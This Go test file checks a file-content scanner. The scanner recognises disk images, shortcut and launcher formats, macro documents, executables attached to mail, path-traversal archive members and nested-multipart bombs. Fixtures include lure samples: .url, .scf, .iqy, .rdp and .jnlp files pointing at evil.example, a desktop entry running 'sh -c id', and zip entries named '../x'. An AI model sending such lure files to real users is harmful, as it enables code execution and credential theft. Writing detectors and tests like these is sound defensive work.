package content

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
)

func mailOf(headers, name, text string) string {
	return headers + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"==b\"\r\n\r\n--==b\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n" +
		"--==b\r\nContent-Type: application/octet-stream; name=\"" + name + "\"\r\nContent-Disposition: attachment; filename=\"" + name + "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		wrapped(base64.StdEncoding.EncodeToString([]byte(text))) + "\r\n--==b--\r\n"
}

func wrapped(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	return b.String() + s
}

const mailHeaders = "Received: from a.example by b.example; Sat, 28 Nov 2026 10:00:00 +0000\r\nFrom: A <a@example.org>\r\nTo: b@example.org\r\nSubject: =?utf-8?q?Rechnung?=\r\n"

// TestSignatures: formats that a double click opens, mounts or runs are known
// as what they are, and what only looks like them is not.
func TestSignatures(t *testing.T) {
	disk := func(at int, magic string) string {
		return strings.Repeat("\x00", at) + magic + strings.Repeat("\x00", 4096)
	}
	for name, c := range map[string]struct {
		text, mime string
		want       Danger
	}{
		"iso":            {disk(32769, "CD001\x01"), "application/x-iso9660-image", Opaque},
		"udf":            {disk(32769, "BEA01\x01"), "application/x-udf-image", Opaque},
		"vhdx":           {disk(0, "vhdxfile"), "application/x-vhdx", Opaque},
		"vhd":            {disk(0, "conectix"), "application/x-vhd", Opaque},
		"wim":            {disk(0, "MSWIM\x00\x00\x00"), "application/x-ms-wim", Opaque},
		"lha":            {"\x20\x05-lh5-" + strings.Repeat("\x01", 13) + "\x00\x05a.txt\x00\x00U", "application/x-lzh-compressed", Opaque},
		"arj":            {"\x60\xea\x2c\x00\x22\x0b\x01\x02" + strings.Repeat("\x00", 60), "application/x-arj", Opaque},
		"ace":            {"\x01\x02\x31\x00\x00\x90\x00**ACE**\x14\x14" + strings.Repeat("\x00\xff", 60), "application/x-ace-compressed", Opaque},
		"url":            {"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n", "application/x-mswinurl", Executable},
		"desktop":        {"#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nExec=sh -c id\n", "application/x-desktop", Executable},
		"scf":            {"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\share\\x.ico\r\n", "application/x-windows-scf", Executable},
		"autorun":        {"[autorun]\r\nopen=setup.exe\r\n", "application/x-setupscript", Executable},
		"reg":            {"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n", "text/x-ms-regedit", Executable},
		"iqy":            {"WEB\r\n1\r\nhttps://evil.example/x\r\n", "text/x-ms-iqy", Executable},
		"rdp":            {"screen mode id:i:2\r\nfull address:s:evil.example\r\n", "application/x-rdp", Executable},
		"jnlp":           {`<?xml version="1.0"?><jnlp spec="1.0+" codebase="http://evil.example/"/>`, "application/x-java-jnlp-file", Executable},
		"settingcontent": {`<?xml version="1.0"?><PCSettings><SearchableContent/></PCSettings>`, "application/x-ms-settingcontent", Executable},
		"library":        {`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>`, "application/x-ms-library", Executable},
		"sylk":           {"ID;PWXL;N;E\r\nC;X1;Y1;K0;ECALC()\r\nE\r\n", "application/x-sylk", ""},
		"mail":           {mailOf(mailHeaders, "a.txt", "hello"), "message/rfc822", ""},
		"mail, macro":    {mailOf(mailHeaders, "a.doc", oleOf("WordDocument", "Macros")), "message/rfc822", Macro},
		"mail, program":  {mailOf(mailHeaders, "a.exe", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), "message/rfc822", ArchiveExecutable},
		"mail, zip":      {mailOf(mailHeaders, "a.zip", zipOf(member{"../x", "y"})), "message/rfc822", ArchivePath},
		"mail in mail":   {mailOf(mailHeaders, "a.eml", mailOf(mailHeaders, "b.7z", sevenOf(member{"../x", "y"}))), "message/rfc822", ArchivePath},
		"mbox":           {"From a@example.org Sat Nov 28 10:00:00 2026\n" + strings.ReplaceAll(mailOf(mailHeaders, "a.doc", oleOf("Macros")), "\r\n", "\n"), "message/rfc822", Macro},
		"mhtml":          {"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://example.org/\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n--x--\r\n", "message/rfc822", ""},
	} {
		r := look(t, sample{name: "a", text: c.text}, Limits{})
		if r.Kind.MIME != c.mime || c.want != "" && !r.Has(c.want) || c.want == "" && len(r.Findings) > 0 {
			t.Errorf("%s: %s %v, want %s %q", name, r.Kind.MIME, r.Findings, c.mime, c.want)
		}
	}
	for _, text := range []string{
		"From the beginning: a note\nMIME-Version is a header\n\n", "Subject: holidays\n\nWe go to the sea.\n", "To: do\n- buy milk\n\nMessage-ID: none\n",
		"[Shell]\ncolor = blue\n", "[Settings]\nURL=x\n", "ID;Name;Price\n1;Flask;3\n", "WEB\n1\nmore\n", "the [InternetShortcut] section\n", "-lh5- is a method\n",
		"ID;Product;Price\n1;Flask;3\n", "Date: 2026-11-28\nTitle: a post\n\nMIME-Version: 1.0\n",
	} {
		if r := look(t, sample{name: "a.txt", kind: "text/plain", text: text}, Limits{}); !strings.HasPrefix(r.Kind.MIME, "text/") || len(r.Findings) > 0 {
			t.Errorf("%q: %s %v", text, r.Kind.MIME, r.Findings)
		}
	}
	// A note about shortcuts stays a note: only the name decides what runs it.
	if r := look(t, sample{name: "a.txt", kind: "text/plain", text: "[InternetShortcut]\nURL=x\n"}, Limits{}); r.Has(Disguised) {
		t.Errorf("%v", r.Findings)
	}
	for _, name := range []string{"bill.pdf", "cat.png"} {
		if r := look(t, sample{name: name, text: "[InternetShortcut]\nURL=x\n"}, Limits{}); !r.Has(Disguised) {
			t.Errorf("%s: %v", name, r.Findings)
		}
	}
	deep := "text/plain"
	text := "x"
	for i := range 40 {
		b := fmt.Sprintf("b%d-", i)
		text = "--" + b + "\r\nContent-Type: " + deep + "\r\n\r\n" + text + "\r\n--" + b + "--\r\n"
		deep = "multipart/mixed; boundary=" + b
	}
	if r := look(t, sample{name: "a.eml", text: mailHeaders + "MIME-Version: 1.0\r\nContent-Type: " + deep + "\r\n\r\n" + text}, Limits{}); !r.Has(Bomb) {
		t.Errorf("forty multiparts: %v", r.Findings)
	}
}

func FuzzMail(f *testing.F) {
	f.Add(mailOf(mailHeaders, "a.zip", zipOf(member{"../x", "y"})))
	f.Add("From a\nMIME-Version: 1.0\n\nx")
	f.Fuzz(func(t *testing.T, text string) {
		r := look(t, sample{name: "a.eml", text: text}, Limits{Unpacked: 1 << 20})
		if r.Unpacked > max(1<<20, 10*int64(len(text)))+64<<10 {
			t.Fatalf("%d bytes", r.Unpacked)
		}
	})
}
